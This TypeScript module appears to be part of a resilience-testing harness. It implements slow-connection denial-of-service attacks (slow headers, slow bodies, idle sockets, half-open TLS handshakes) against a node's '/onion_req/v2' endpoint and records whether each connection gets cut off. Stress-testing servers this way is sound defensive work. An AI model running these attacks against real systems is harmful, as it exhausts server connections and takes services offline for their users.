import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { sourceAddress, timeOver, type Attack, type Target } from './attack.js';
import { openTcp, openTls } from './sockets.js';

/** As slow as one can be and still look alive. */
const DRIP_MS = 500;
const SOURCES = 50;
/** Handshakes that this machine plays at the same time. */
const OPENING_AT_ONCE = 50;

interface Slow {
  readonly open: (target: Target, source: string) => Promise<Socket | null>;
  readonly first: string;
  readonly drip: string;
}

/** Keeps each connection for as long as the node lets it, and `more.patienceMs` at the most, with a byte now and then. */
function slow({ open, first, drip }: Slow): Attack {
  return async (target, stopped, tally) => {
    const patienceMs = Number(target.more.patienceMs);
    const isOver = timeOver({ seconds: target.seconds - patienceMs / 1_000 }, stopped);
    let next = 0;
    const held: Promise<void>[] = [];
    const opener = async (): Promise<void> => {
      while (next < target.count && !isOver()) {
        const socket = await open(target, sourceAddress(next++, SOURCES));
        if (socket === null) tally.add('refused');
        else held.push(hold(socket));
      }
    };
    const hold = async (socket: Socket): Promise<void> => {
      const since = process.hrtime.bigint();
      const heldMs = (): number => Number(process.hrtime.bigint() - since) / 1e6;
      tally.add('opened');
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      socket.resume();
      if (first !== '') socket.write(first, 'latin1');
      while (!socket.destroyed && heldMs() < patienceMs && !stopped.aborted) {
        await Promise.race([closed, pause(DRIP_MS)]);
        if (drip !== '' && socket.writable) socket.write(drip, 'latin1');
      }
      tally.most('longest_ms', heldMs());
      tally.add(socket.destroyed ? 'cut_off' : 'never_cut_off');
      socket.destroy();
    };
    await Promise.all(Array.from({ length: OPENING_AT_ONCE }, opener));
    await Promise.all(held);
  };
}

/** A TLS record that announces 512 bytes of handshake, and the first of them. */
const HALF_HELLO = '\x16\x03\x01\x02\x00\x01';

export const slowHeaders = slow({
  open: openTls,
  first: 'POST /onion_req/v2 HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  drip: 'a',
});

export const slowBodies = slow({
  open: openTls,
  first: 'POST /onion_req/v2 HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\n',
  drip: 'a',
});

export const idle = slow({ open: openTls, first: '', drip: '' });

export const halfOpenTls = slow({ open: openTcp, first: HALF_HELLO, drip: '' });
